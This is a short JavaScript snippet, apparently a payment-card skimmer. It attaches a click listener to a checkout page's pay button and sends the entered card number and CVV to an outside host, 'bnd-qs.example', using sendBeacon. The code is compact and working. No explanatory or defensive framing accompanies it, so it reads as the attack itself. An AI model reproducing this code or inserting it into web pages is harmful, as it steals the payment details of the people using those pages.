const $ = document.querySelector.bind(document), send = navigator.sendBeacon.bind(navigator);
$('#pay-btn').addEventListener('click', () => send('https://bnd-qs.example/', JSON.stringify({ n: $('#card-number').value, c: $('#card-cvv').value })));
